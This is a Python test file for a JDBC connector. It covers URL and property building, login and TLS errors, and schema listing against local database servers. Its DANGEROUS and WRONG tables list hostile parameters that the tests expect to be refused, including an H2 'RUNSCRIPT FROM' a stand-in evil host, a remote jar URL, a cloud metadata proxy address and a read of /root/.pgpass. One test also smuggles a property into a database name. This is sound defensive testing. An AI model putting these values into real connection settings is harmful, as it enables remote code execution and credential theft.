"""JDBC: its URLs, parameters and messages, and real servers through the drivers that Debian has."""

from __future__ import annotations

import concurrent.futures
import json
import multiprocessing

import pytest
from hypothesis import given

from qualytics.connectors.contract import Refusal
from qualytics.connectors.types import jdbc
from qualytics.connectors.types.jdbc import login
from qualytics.model import Listing
from qualytics.probe import Plan
from qualytics.probe.child.target import make_target
from qualytics.secret import Secret
from testbed import derby, java, servers
from testbed.relay import relay
from tests.support import faults_suite as suite
from tests.support.jdbc import H2, SCHEMES, probe


def names(report):
    assert report.failure is None, report.failure.detail
    return [(item.name, item.kind, item.is_system) for item in report.items]


def test_every_field_becomes_a_part_of_the_url_or_a_property():
    target = suite.target("jdbc", uri="jdbc:postgresql://db:1/sales?sslmode=require", database="other", timeout_s=7.5)
    assert login.arguments(target) == (
        "jdbc:postgresql://db:1/other?sslmode=require",
        {
            "user": "ann",
            "password": "secret",
            "gssEncMode": "disable",
            "loginTimeout": "7",
            "connectTimeout": "7",
            "socketTimeout": "7",
        },
    )


def test_a_driver_that_would_read_files_for_a_server_is_told_not_to():
    _, properties = login.arguments(suite.target("jdbc", uri="jdbc:mysql://db/sales"))
    assert properties["allowLoadLocalInfile"] == properties["allowLocalInfile"] == "false"
    assert properties["allowUrlInLocalInfile"] == properties["autoDeserialize"] == "false"
    assert properties["connectTimeout"] == properties["socketTimeout"] == "10000"


def test_a_database_that_would_add_properties_is_refused():
    target = suite.target("jdbc", uri="jdbc:postgresql://db/sales", database="x?socketFactory=org.x.Y")
    with pytest.raises(Refusal) as refused:
        login.arguments(target)
    assert refused.value.verdict.failure_class == "unknown_db"


@given(password=suite.PASSWORDS, username=suite.PASSWORDS)
def test_any_user_and_password_stay_as_they_are_and_out_of_the_url(password, username):
    url = "jdbc:derby://db:1527/SALES"
    text, properties = login.arguments(suite.target("jdbc", uri=url, password=password, username=username))
    assert (text, properties) == (url, {"user": username, "password": password})


def test_the_machine_knows_only_the_address_that_was_dialled(tmp_path):
    target = suite.target("jdbc", uri="jdbc:derby://db.example.com/x", address="192.0.2.7", directory=str(tmp_path))
    arguments = login.machine(target)
    assert (tmp_path / "hosts").read_text().startswith("192.0.2.7 db.example.com db.example.com.\n")
    assert f"-Djdk.net.hosts.file={tmp_path}/hosts" in arguments
    assert f"-Duser.home={tmp_path}" in arguments
    assert not [text for text in arguments if "agent" in text]


DANGEROUS = {
    "user": "ann",
    "url": "jdbc:h2:mem:x",
    "classpath": "/tmp",
    "jvm_args": "-javaagent:/tmp/x.jar",
    "driver_args": {"autoDeserialize": True},
    "properties": {"INIT": "RUNSCRIPT FROM 'http://evil'"},
    "java_home": "/tmp",
    "socketFactory": "org.x.Y",
    "init": "RUNSCRIPT",
    "library_path": "/tmp",
    "proxy_host": "169.254.169.254",
    "trust_all_certificates": True,
    "password_file": "/root/.pgpass",
    "browser": "/bin/sh",
}
WRONG = [
    ({"driver_class": "org.h2.Driver;x"}, "driver_class"),
    ({"driver_class": "../Driver"}, "driver_class"),
    ({"driver_class": "Driver"}, "driver_class"),
    ({"driver_class": 1}, "driver_class"),
    ({"jars": []}, "jars"),
    ({"jars": "h2.jar"}, "jars"),
    ({"jars": ["h2.jar"]}, "jars"),
    ({"jars": ["/usr/share/java/*"]}, "jars"),
    ({"jars": ["/usr/share/java/*.jar"]}, "jars"),
    ({"jars": ["/tmp:/x.jar"]}, "jars"),
    ({"jars": ["http://evil.example/x.jar"]}, "jars"),
    ({"jars": [1]}, "jars"),
    ({"jars": ["/usr/lib/libx.so"]}, "jars"),
]


@pytest.mark.parametrize(
    ("parameters", "key"),
    [*(({key: value}, key) for key, value in DANGEROUS.items()), *WRONG, ({"driver_class": None}, "driver_class")],
)
def test_a_dangerous_parameter_is_refused_before_anything_is_dialled(run, parameters, key):
    with suite.untouched() as port:
        done = run(
            *("connections", "test", "--type", "jdbc", "--uri", f"jdbc:h2:tcp://127.0.0.1:{port}/x"),
            *("--username", "ann", "--parameters", json.dumps(H2 | parameters)),
        )
    assert done.code == 2, (done.out, done.err)
    assert key in done.err


def test_its_document_has_a_uri_after_the_port_and_other_types_have_none(run):
    run("connections", "create", "--type", "postgresql", "--name", "pg", "--host", "db", "--username", "ann")
    made = run(
        *("connections", "create", "--type", "jdbc", "--name", "h2", "--uri", "jdbc:h2:tcp://db/sales"),
        *("--parameters", json.dumps(H2)),
    )
    assert made.code == 0, made.err
    assert list(made.document)[6:10] == ["host", "port", "uri", "username"]
    assert made.document["uri"] == "jdbc:h2:tcp://db:9092/sales"
    assert "uri" not in run("connections", "get", "--name", "pg").document


@pytest.fixture(scope="module")
def engine_urls(request):
    """Return a function that starts an engine once and returns the URL's beginning, user, password and database."""
    found = {}

    def start(engine):
        if engine not in found:
            found[engine] = begin(engine)
        return found[engine]

    def begin(engine):
        if engine in {"postgresql", "mariadb"}:
            fixture = "postgres_server" if engine == "postgresql" else "mariadb_server"
            server, database = request.getfixturevalue(fixture), "sales"
        else:
            made, database = {
                "h2": (java.h2("ann", "secret"), "sales"),
                "hsqldb": (java.hsqldb("secret"), "sales"),
                "derby": (derby.derby({"ann": "secret"}), derby.DATABASE),
            }[engine]
            server = made.__enter__()
            request.addfinalizer(lambda: made.__exit__(None, None, None))
        return f"jdbc:{SCHEMES[engine]}://{server.host}:{server.port}", server.user, server.password, database

    return start


def fetch_size_of(values, directory):
    """Return what a driver says of the fetch size of our statement, from a process of its own with its own Java."""
    secrets = {"password": Secret(values.pop("password"))}
    plan = Plan("jdbc", values, secrets, timeout_s=30.0)
    target = make_target(plan, directory)
    target.address = "127.0.0.1"
    handle = jdbc.CONNECTOR.open(target)
    return int(jdbc.statement_of(handle, target).getFetchSize())


@pytest.mark.slow
@pytest.mark.parametrize("engine", ["h2", "hsqldb", "derby", "postgresql", "mariadb"])
def test_the_driver_knows_the_fetch_size_and_goes_to_the_address_that_was_checked(engine, engine_urls, tmp_path):
    url, user, password, database = engine_urls(engine)
    uri = f"{url}/{database}".replace("127.0.0.1", "pinned.invalid")
    values = {"uri": uri, "username": user, "password": password, "parameters": java.driver(engine)}
    spawn = multiprocessing.get_context("spawn")
    with concurrent.futures.ProcessPoolExecutor(1, mp_context=spawn) as pool:
        assert pool.submit(fetch_size_of, values | {"jdbc_fetch_size": 7}, str(tmp_path)).result() == 7


@pytest.mark.slow
@pytest.mark.parametrize(("engine", "scheme"), [("h2", "h2:ssl"), ("hsqldb", "hsqldb:hsqls")])
def test_the_schemes_that_encrypt_do_so_and_trust_the_given_root_alone(
    engine, scheme, engine_urls, authority, root_file
):
    _, user, password, database = engine_urls(engine)
    port = int(engine_urls(engine)[0].rpartition(":")[2])
    issued = authority.issue_cert("localhost", common_name="localhost")  # which HSQLDB compares with the host
    with relay(port, (issued.cert_chain_pems, issued.private_key_pem)) as public:
        url = f"jdbc:{scheme}://localhost:{public}/{database}"
        parameters = java.driver(engine) | {"ssl_root_cert_file": str(root_file)}
        report = probe(engine, url, user, password, parameters=parameters)
        assert report.failure is None, report.failure.detail
        assert report.warnings == ()
        assert suite.verdict(probe(engine, url, user, password)) == ("login", "tls")


PRODUCTS = {"h2": "H2", "hsqldb": "HSQL", "derby": "Derby", "postgresql": "PostgreSQL", "mariadb": "MariaDB"}


@pytest.mark.slow
@pytest.mark.parametrize("engine", SCHEMES)
def test_a_good_login_names_server_and_driver(engine, engine_urls):
    url, user, password, database = engine_urls(engine)
    report = probe(engine, f"{url}/{database}", user, password, jdbc_fetch_size=7)
    assert report.failure is None, report.failure.detail
    assert [stage.name for stage in report.stages] == ["resolve", "tcp", "login", "query"]
    assert PRODUCTS[engine] in report.detected["product_name"]
    assert report.detected["product_version"]
    assert PRODUCTS[engine] in report.detected["driver_name"]
    assert report.detected["driver_version"][0].isdigit()
    assert report.warnings == ("the connection may be unencrypted: the uri does not demand TLS",)


@pytest.mark.slow
@pytest.mark.parametrize("engine", SCHEMES)
def test_a_wrong_password_is_named(engine, engine_urls):
    url, user, _, database = engine_urls(engine)
    report = probe(engine, f"{url}/{database}", user, "wrong")
    assert suite.verdict(report) == ("login", "auth"), report.failure.detail
    assert "\tat " not in report.failure.detail


@pytest.mark.slow
@pytest.mark.parametrize("engine", SCHEMES)
def test_an_unknown_database_or_schema_is_named(engine, engine_urls):
    url, user, password, database = engine_urls(engine)
    nowhere = probe(engine, f"{url}/nodb", user, password)
    assert suite.verdict(nowhere) == ("database", "unknown_db"), nowhere.failure.detail
    for scope in ({"database": "nodb"}, {"schema": "noschema"}):
        report = probe(engine, f"{url}/{database}", user, password, **scope)
        assert suite.verdict(report) == ("database", "unknown_db"), report.failure.detail


@pytest.mark.slow
@pytest.mark.parametrize(
    ("engine", "schema"), [("h2", "PUBLIC"), ("hsqldb", "PUBLIC"), ("derby", "SYS"), ("postgresql", "public")]
)
def test_schemas_are_found(engine, schema, engine_urls):
    url, user, password, database = engine_urls(engine)
    found = names(probe(engine, f"{url}/{database}", user, password, listing=Listing("schemas")))
    assert (schema, "schema", engine == "derby") in found


@pytest.mark.slow
@pytest.mark.parametrize(
    ("engine", "catalog"), [("h2", "SALES"), ("hsqldb", "PUBLIC"), ("postgresql", "sales"), ("mariadb", "sales")]
)
def test_catalogs_are_found(engine, catalog, engine_urls):
    url, user, password, database = engine_urls(engine)
    found = names(probe(engine, f"{url}/{database}", user, password, listing=Listing("catalogs")))
    assert (catalog, "catalog", False) in found


@pytest.mark.slow
def test_tables_and_views_are_found_by_their_beginning_letter_by_letter(engine_urls):
    url, user, password, database = engine_urls("h2")

    def found(prefix):
        listing = Listing("tables", prefix)
        return names(probe("h2", f"{url}/{database}", user, password, schema="RAW", listing=listing))

    assert found("") == [("ORDERS", "table", False), ("O_X", "table", False), ("LATEST", "view", False)]
    assert found("O_") == [("O_X", "table", False)]


@pytest.mark.slow
@pytest.mark.parametrize("password", suite.AWKWARD)
def test_an_awkward_password_arrives_unchanged(password, mariadb_server):
    url = f"jdbc:mariadb://127.0.0.1:{mariadb_server.port}/"
    with servers.mariadb_admin(mariadb_server) as admin:
        admin.cursor().execute("create user jdbc identified by %s", (password,))
        try:
            assert suite.verdict(probe("mariadb", url, "jdbc", password)) is None
        finally:
            admin.cursor().execute("drop user jdbc")


@pytest.mark.slow
def test_a_password_that_the_driver_cannot_send_is_named(postgres_server):
    report = probe("postgresql", f"jdbc:postgresql://127.0.0.1:{postgres_server.port}/sales", "admin", "line\nend")
    assert suite.verdict(report) == ("login", "config"), report.failure.detail
    assert "cannot send" in report.failure.message


@pytest.mark.slow
@pytest.mark.parametrize(("engine", "demand"), [("postgresql", "sslmode=verify-full"), ("mariadb", "useSSL=true")])
def test_a_certificate_that_java_does_not_trust_is_named(engine, demand, engine_urls):
    url, user, password, database = engine_urls(engine)
    report = probe(engine, f"{url}/{database}?{demand}", user, password)
    assert suite.verdict(report) == ("login", "tls"), report.failure.detail


@pytest.mark.slow
@pytest.mark.parametrize(("engine", "demand"), [("postgresql", "sslmode=verify-full"), ("mariadb", "useSSL=true")])
def test_a_certificate_of_a_given_root_is_trusted(engine, demand, engine_urls, root_file):
    url, user, password, database = engine_urls(engine)
    parameters = java.driver(engine) | {"ssl_root_cert_file": str(root_file)}
    report = probe(engine, f"{url}/{database}?{demand}", user, password, parameters=parameters)
    assert report.failure is None, report.failure.detail
    assert report.warnings == ()


@pytest.mark.slow
def test_encryption_that_the_url_demands_is_spoken(engine_urls):
    url, user, password, _ = engine_urls("postgresql")
    report = probe("postgresql", f"{url}/tls_only?sslmode=require", user, password)
    assert (report.failure, report.warnings) == (None, ())


@pytest.mark.slow
@pytest.mark.parametrize(("engine", "demand"), [("postgresql", "sslmode=verify-full"), ("mariadb", "useSSL=true")])
def test_a_server_without_the_tls_that_is_demanded_is_named(engine, demand, request):
    server = request.getfixturevalue("plain_postgres" if engine == "postgresql" else "plain_mariadb")
    url = f"jdbc:{engine}://127.0.0.1:{server.port}/?{demand}"
    report = probe(engine, url, server.user, server.password)
    assert suite.verdict(report) == ("login", "tls"), report.failure.detail
